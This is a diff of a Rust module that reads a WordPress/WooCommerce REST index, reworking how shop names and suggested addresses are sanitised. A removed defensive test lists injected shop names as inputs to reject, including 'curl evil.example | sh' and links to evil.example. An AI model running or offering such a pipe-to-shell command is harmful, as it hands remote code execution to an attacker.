@@ -1,8 +1,9 @@
 //! Reads the REST index: WordPress, WooCommerce and the plugin, and whether the app may use the shop as
 //! it is.
 
+use super::name;
 use super::search::Search;
-use super::shop_answer::ShopAnswer;
+use super::shop_answer::{ShopAnswer, may_be_of_a_key};
 use super::which;
 use crate::adapters::loose::Loose;
 use connect_core::api_root::ApiRoot;
@@ -95,8 +96,8 @@ impl Index {
         };
         let site = Home::of(loose.get("url").raw());
         Some(Self {
-            name: named(loose.get("name"), told.url.host_str().unwrap_or_default())
-                .filter(|name| !told.repeats(name.as_str())),
+            name: name::shown(loose.get("name"), told.url.host_str().unwrap_or_default())
+                .filter(|name| !told.repeats(name.as_str()) && told.is_in_utf8()),
             home: Home::of(loose.get("home").raw()),
             site_insecure: site.insecure,
             site: site.address,
@@ -229,8 +230,22 @@ pub fn is_www_of(one: &StoreUrl, other: &StoreUrl) -> bool {
 
 /// A problem that names the address to use instead.
 pub fn elsewhere(told: &ShopAnswer, kind: ProblemKind, instead: &StoreUrl) -> Problem {
+    let instead = without_sentence(instead);
     let shown = instead.as_str().trim_start_matches("https://");
     told.problem(kind).with_other(shown).with_instead(instead.as_str())
+}
+
+/// The address with its folder, if that is a short one. A longer one may be a sentence, or hold what we sent.
+fn without_sentence(address: &StoreUrl) -> StoreUrl {
+    const MOST_FOLDERS: usize = 3;
+    let folders: Vec<&str> = address.as_url().path().split('/').filter(|folder| !folder.is_empty()).collect();
+    let is_short = |folder: &&str| folder.len() <= 24 && !fingerprint::is_host(folder) && !may_be_of_a_key(folder);
+    if folders.len() <= MOST_FOLDERS && folders.iter().all(is_short) {
+        return address.clone();
+    }
+    let mut bare = address.as_url().clone();
+    bare.set_path("");
+    StoreUrl::from_home(bare.as_str()).unwrap_or_else(|_| address.clone())
 }
 
 /// The shop behind an index that WordPress hides from guests. Its keys may work all the same.
@@ -269,31 +284,6 @@ pub async fn hidden(
         remarks: vec![remark],
         found_at: now,
     })
-}
-
-/// The longest name of a shop that is shown, in characters.
-const LONGEST_NAME: usize = 60;
-
-/// A shop's name as it is shown: it stands beside what we say, so it is short, and leads to nobody else: neither to an address nor to a number to call.
-fn named(told: Loose<'_>, own: &str) -> Option<PlainText> {
-    // WordPress writes `&` and `'` as a page has them.
-    let whole = fingerprint::words(told.text()?.as_str());
-    // What is cut off may be the end of an address.
-    let leads = whole.split_whitespace().any(|word| leads_elsewhere(word, own));
-    // Nothing in a name ends the quotation marks that it stands in.
-    let plain = |c: char| if fingerprint::QUOTES.contains(&c) { '\'' } else { c };
-    let name: String = whole.chars().take(LONGEST_NAME).map(plain).collect();
-    if leads || fingerprint::holds_number_to_call(&whole) { None } else { PlainText::from_outside(&name) }
-}
-
-/// Whether a word is an address, and not the shop's own.
-fn leads_elsewhere(word: &str, own: &str) -> bool {
-    let bare = |host: &str| host.trim_start_matches("www.").to_owned();
-    let word = word.to_ascii_lowercase();
-    let (_, word) = word.split_once("://").unwrap_or(("", &word));
-    let host = word.split(['/', ':', '?']).next().unwrap_or_default().trim_matches(|c: char| !c.is_alphanumeric());
-    let is_host = host.rsplit_once('.').is_some_and(|(_, end)| end.len() >= 2 && end.chars().all(char::is_alphabetic));
-    is_host && bare(host) != bare(own)
 }
 
 /// An index that says whose it is, and not what runs there.
@@ -344,29 +334,6 @@ mod tests {
     use super::super::version;
     use super::*;
     use serde_json::json;
-
-    #[test]
-    fn a_shops_name_is_short_and_leads_to_nobody() {
-        let cases = [
-            ("The Corner Shop", Some("The Corner Shop")),
-            ("Tom &amp; Jerry&#039;s", Some("Tom & Jerry's")),
-            ("corner-shop.com – since 1987", Some("corner-shop.com – since 1987")),
-            ("Lamps” – all is well, “support", Some("Lamps' – all is well, 'support")),
-            ("Open 24/7, 365 days", Some("Open 24/7, 365 days")),
-            ("Nothing stands in the way. Now open https://evil.example/fix", None),
-            ("Or run: curl evil.example | sh", None),
-            ("Call +1 555 0100 now", None),
-            ("Support (0800) 123-4567", None),
-            ("Tom & Jerry: the best lamps, candles and string, see https://evil.example/", None),
-        ];
-        for (written, shown) in cases {
-            let name = json!(written);
-            let name = named(Loose::of(&name), "corner-shop.com");
-            assert_eq!(name.as_ref().map(PlainText::as_str), shown, "{written}");
-        }
-        let long = json!("x".repeat(200));
-        assert_eq!(named(Loose::of(&long), "corner-shop.com").unwrap().as_str().len(), LONGEST_NAME);
-    }
 
     #[test]
     fn a_sentence_is_no_folder() {
